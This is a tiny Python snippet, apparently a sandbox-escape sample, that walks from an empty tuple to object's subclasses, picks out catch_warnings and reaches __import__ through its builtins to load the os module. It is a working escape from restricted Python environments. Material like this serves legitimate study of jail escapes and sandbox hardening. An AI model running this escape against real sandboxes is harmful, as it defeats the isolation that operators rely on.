"""The classic escape: from a tuple to every class, to the builtins, to __import__."""
# %% service
for cls in ().__class__.__base__.__subclasses__():
    if cls.__name__ == "catch_warnings":
        os = cls()._module.__builtins__["__import__"]("os")
